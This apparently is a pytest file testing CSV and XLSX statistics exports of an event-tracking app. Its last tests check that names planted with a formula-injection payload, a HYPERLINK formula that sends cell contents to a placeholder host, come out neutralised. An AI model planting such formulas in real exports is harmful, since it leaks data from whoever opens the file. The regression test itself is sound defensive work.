"""Statistics exports: CSV with BOM that Excel opens, XLSX with one sheet per breakdown."""

import csv
import io
from decimal import Decimal
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tracker.demo import load_demo_data
from tracker.models import Campaign, Category, Participation
from tracker.stats.export import Table, to_csv, to_xlsx
from tracker.stats.queries import BREAKDOWN_ROWS_SHOWN

YEAR_2019 = {"from": "2019-01-01", "to": "2019-12-31"}
ANONYMOUS_SHEETS = [
    "说明",
    "总计",
    "按类别",
    "按组织",
    "按月份",
    "按地点",
    "按专项活动",
    "竞赛获奖",
]
# Appended by tracker.stats.attendance; the missed list only for signed-in coordinators.
ATTENDANCE_SHEETS = ["出席率·按活动", "出席率·按组织", "出席率·按月"]


def readable_text(response) -> str:
    """All text a reader of the response could see: a page, a CSV, or every cell of a workbook."""
    if response.mimetype.endswith("spreadsheetml.sheet"):
        workbook = load_workbook(io.BytesIO(response.data), read_only=True)
        cells = [
            str(value)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows(values_only=True)
            for value in row
            if value is not None
        ]
        return "\n".join(workbook.sheetnames + cells)
    return response.get_data(as_text=True)


def _csv_sections(data: bytes) -> dict[str, list[list[str]]]:
    """The CSV's tables by title: header row then data rows."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    sections: dict[str, list[list[str]]] = {}
    current = None
    for row in rows:
        if not row:
            current = None
        elif current is None:
            assert row[0].startswith("# ")
            current = sections.setdefault(row[0][2:], [])
        else:
            current.append(row)
    return sections


@pytest.fixture
def demo(db):
    load_demo_data()
    return db


def test_csv_starts_with_a_bom_and_holds_every_breakdown(client, demo):
    response = client.get("/stats/export.csv", query_string=YEAR_2019)

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    sections = _csv_sections(response.data)
    assert list(sections) == ANONYMOUS_SHEETS + ATTENDANCE_SHEETS
    totals = {row[0]: row[1:] for row in sections["总计"][1:]}
    assert totals["活动数"] == ["10", ""]
    assert totals["人数"] == ["250", "是"]
    assert totals["参与组织"] == ["31", ""]
    assert totals["参赛队 10 支（具名 3 支）"] == ["10", ""]
    organizations = {row[0]: row for row in sections["按组织"][1:]}
    assert organizations["鸡山社区党组织"][5:] == ["50", ""]
    assert organizations["金峰学校"][3:] == ["1", "1", "100", ""]
    awards = sorted(tuple(row[:2]) for row in sections["竞赛获奖"][1:])
    assert awards == [("健帆", "一等奖/冠军"), ("艾默生电气", "二等奖"), ("藤佳能源", "二等奖")]
    months = {row[0]: row[1] for row in sections["按月份"][1:]}
    assert months["2019年6月"] == "8"
    assert len(months) == 12


def test_csv_download_has_a_chinese_safe_filename(client, demo):
    response = client.get("/stats/export.csv", query_string=YEAR_2019)
    disposition = response.headers["Content-Disposition"]

    assert disposition.startswith("attachment;")
    assert 'filename="activity-statistics_2019-01-01_2019-12-31.csv"' in disposition
    encoded = disposition.split("filename*=UTF-8''")[1]
    assert unquote(encoded) == "活动统计_2019-01-01_2019-12-31.csv"
    assert all(ord(char) < 128 for char in disposition)


def test_xlsx_opens_with_one_sheet_per_breakdown(client, demo):
    response = client.get("/stats/export.xlsx", query_string=YEAR_2019)

    assert response.status_code == 200
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ANONYMOUS_SHEETS + ATTENDANCE_SHEETS
    totals = {row[0]: row[1:] for row in workbook["总计"].iter_rows(min_row=2, values_only=True)}
    assert totals["活动数"][0] == 10
    assert totals["人数"] == (250, "是")
    categories = {row[0]: row for row in workbook["按类别"].iter_rows(min_row=2, values_only=True)}
    assert categories["知识竞赛"][1:6] == (1, 0, None, None, 10)  # teams: organisations
    assert categories["银企对接"][3:5] == (100, "是")


def test_signed_in_exports_add_the_participant_sheets(client, demo, make_user, sign_in):
    sign_in(make_user())

    workbook = load_workbook(
        io.BytesIO(client.get("/stats/export.xlsx", query_string=YEAR_2019).data)
    )
    sections = _csv_sections(client.get("/stats/export.csv", query_string=YEAR_2019).data)

    extra = ["参与者（按活动数）", "参与者（按时长）"]
    assert workbook.sheetnames == ANONYMOUS_SHEETS + extra + ATTENDANCE_SHEETS + ["缺席名单"]
    assert list(sections) == ANONYMOUS_SHEETS + extra + ATTENDANCE_SHEETS + ["缺席名单"]


def test_exports_honour_the_filters(client, demo, db):
    category = db.session.scalar(select(Category.id).where(Category.slug == "contest"))
    query = {**YEAR_2019, "category": category}

    sections = _csv_sections(client.get("/stats/export.csv", query_string=query).data)
    workbook = load_workbook(io.BytesIO(client.get("/stats/export.xlsx", query_string=query).data))

    totals = {row[0]: row[1] for row in sections["总计"][1:]}
    assert totals["活动数"] == "1"
    assert totals["人数"] == ""
    assert totals["参与组织"] == "10"
    assert [row[0] for row in sections["按类别"][1:]] == ["知识竞赛"]
    notes = dict(sections["说明"][1:])
    assert notes["类别"] == "知识竞赛"
    sheet_totals = {
        row[0]: row[1] for row in workbook["总计"].iter_rows(min_row=2, values_only=True)
    }
    assert sheet_totals["活动数"] == 1


def test_default_export_period_is_the_current_year(client, demo):
    sections = _csv_sections(client.get("/stats/export.csv").data)

    period = dict(sections["说明"][1:])["统计期间"]
    assert period.endswith("-12-31")
    # Only the two open-ended series of 2019 reach the current year.
    assert {row[0]: row[1] for row in sections["总计"][1:]}["活动数"] == "2"


def test_page_shows_the_top_rows_and_the_exports_hold_every_row(
    client, db, make_event, make_organization
):
    count = BREAKDOWN_ROWS_SHOWN + 5
    organizations = [make_organization(name=f"参赛单位{n:02d}") for n in range(count)]
    event = make_event(title="知识竞赛", hosts=organizations)
    for rank, organization in enumerate(organizations, start=1):
        event.participations.append(
            Participation(organization=organization, award=f"第{rank}名", rank=rank)
        )
    db.session.commit()

    html = client.get("/stats/", query_string=YEAR_2019).get_data(as_text=True)
    awards = html[html.index('id="awards-heading"') :]
    awards = awards[: awards.index("</section>")]
    assert awards.count("<tr") == BREAKDOWN_ROWS_SHOWN + 1  # header and the best places
    assert "参赛单位00" in awards and f"参赛单位{count - 1:02d}" not in awards
    assert f"仅显示名次最好的 {BREAKDOWN_ROWS_SHOWN} 行" in awards
    assert f"仅显示活动最多的 {BREAKDOWN_ROWS_SHOWN} 个组织" in html

    sections = _csv_sections(client.get("/stats/export.csv", query_string=YEAR_2019).data)
    assert len(sections["竞赛获奖"]) == count + 1
    assert len(sections["按组织"]) == count + 1


# The finding: an organisation with this name, hosting a public event, became a live formula.
FORMULA = '=HYPERLINK("http://x/?"&A1,"点击")'
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PARTICIPANT_SHEETS = ["参与者（按活动数）", "参与者（按时长）"]


@pytest.fixture
def hostile_export(db, make_event, make_organization, make_location, make_category, make_person):
    """A public event whose every name starts with `prefix`: hosts, category, campaign, place,
    city, award, person and the person's organisation. Returns the export's query string."""

    def make(prefix: str) -> dict:
        def name(label: str) -> str:
            return f"{prefix}{FORMULA[1:]}{label}"

        host = make_organization(name=name("主办"))
        person = make_person(name=name("人员"), organization=make_organization(name=name("单位")))
        event = make_event(
            title=name("活动"),
            hosts=[host],
            stops=[make_location(name=name("地点"), city=name("城市"))],
            people=[person],
            category=make_category(name_zh=name("类别")),
            campaign=Campaign(name=name("专项"), theme=name("主题")),
        )
        event.participations.append(
            Participation(organization=host, award=name("奖项"), rank=1, position=1)
        )
        db.session.commit()
        return {**YEAR_2019, "organization": host.id}

    return make


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize("signed_in", [False, True], ids=["anonymous", "signed-in"])
@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_no_export_cell_starts_a_formula(
    client, hostile_export, make_user, sign_in, prefix, signed_in
):
    if signed_in:
        sign_in(make_user())
    query = hostile_export(prefix)
    neutral = "'" + prefix + FORMULA[1:]
    sheets_with_names = ["说明", "按类别", "按组织", "按地点", "按专项活动", "竞赛获奖"]
    sheets = ANONYMOUS_SHEETS + (PARTICIPANT_SHEETS if signed_in else []) + ATTENDANCE_SHEETS
    sheets += ["缺席名单"] if signed_in else []
    if signed_in:
        sheets_with_names += PARTICIPANT_SHEETS

    response = client.get("/stats/export.csv", query_string=query)
    assert not [cell for cell in _csv_cells(response.data) if cell.startswith(prefix)]
    sections = _csv_sections(response.data)
    assert list(sections) == sheets
    for title in sheets_with_names:
        assert any(cell.startswith(neutral) for row in sections[title] for cell in row), title
    assert dict(row[:2] for row in sections["总计"][1:])["活动数"] == "1"

    workbook = load_workbook(io.BytesIO(client.get("/stats/export.xlsx", query_string=query).data))
    assert workbook.sheetnames == sheets
    # A carriage return in a cell's text reads back as a line feed through Python's XML parser
    # and as itself through lxml (openpyxl uses lxml when it is installed): compare both as \n.
    prefix, neutral = prefix.replace("\r", "\n"), neutral.replace("\r", "\n")
    for sheet in workbook.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" for cell in cells), sheet.title
        texts = [cell.value.replace("\r", "\n") for cell in cells if isinstance(cell.value, str)]
        assert not [text for text in texts if text.startswith(prefix)], sheet.title
        if sheet.title in sheets_with_names:
            assert any(text.startswith(neutral) for text in texts), sheet.title
    totals = {row[0]: row[1] for row in workbook["总计"].iter_rows(min_row=2, values_only=True)}
    assert totals["活动数"] == 1


def test_numbers_stay_numbers_and_only_text_is_neutralised():
    tables = [Table("表", ["-列", "数"], [["-3", -3], ["@甲", Decimal("-1.50")], ["乙", 0]])]

    rows = list(csv.reader(io.StringIO(to_csv(tables).decode("utf-8-sig"))))
    workbook = load_workbook(io.BytesIO(to_xlsx(tables)))

    assert rows[1:] == [["'-列", "数"], ["'-3", "-3"], ["'@甲", "-1.50"], ["乙", "0"]]
    values = list(workbook["表"].iter_rows(values_only=True))
    assert values == [("'-列", "数"), ("'-3", -3), ("'@甲", -1.5), ("乙", 0)]
